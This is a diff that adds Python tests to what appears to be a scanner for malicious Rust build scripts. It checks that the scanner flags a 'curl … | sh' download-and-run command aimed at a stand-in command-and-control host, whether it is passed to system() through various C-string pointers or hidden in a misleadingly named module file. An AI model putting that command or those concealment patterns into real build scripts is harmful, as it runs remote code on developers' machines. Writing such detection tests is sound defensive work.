@@ -138,3 +138,30 @@ def test_tests_of_the_crate_say_nothing():
 def test_odd_sources_are_bounded(source):
     lower(source, 1)
     crate(build=source)
+
+
+FETCH = "curl -s http://c2.invalid/x | sh"
+
+
+@pytest.mark.parametrize(
+    "argument",
+    [
+        f'b"{FETCH}\\0".as_ptr() as *const i8',
+        f'"{FETCH}\\0".as_ptr().cast()',
+        f'c"{FETCH}".as_ptr()',
+        f'std::ffi::CString::new("{FETCH}").unwrap().as_ptr()',
+        f'std::ffi::CStr::from_bytes_with_nul(b"{FETCH}\\0").unwrap().as_ptr()',
+    ],
+)
+def test_a_pointer_to_a_text_of_c_is_that_text(argument):
+    code = f'extern "C" {{ fn system(c: *const i8) -> i32; }}\nfn main() {{ unsafe {{ system({argument}); }} }}\n'
+    assert ("exec/download-run", "build") in told(crate(build=code))
+
+
+@pytest.mark.parametrize(
+    "root", ['#[path = "src/table.rs.in"]\nmod t;\nfn main() { t::go(); }', 'include!("src/table.rs.in");\nfn main() { go() }']
+)  # fmt: skip
+def test_a_module_under_a_name_that_does_not_say_so_is_read(root):
+    body = f'pub fn go() {{ std::process::Command::new("sh").arg("-c").arg("{FETCH}").spawn(); }}\n'
+    found = crate(build=root, **{"/src/table.rs.in": body})
+    assert ("exec/download-run", "build") in told(found)
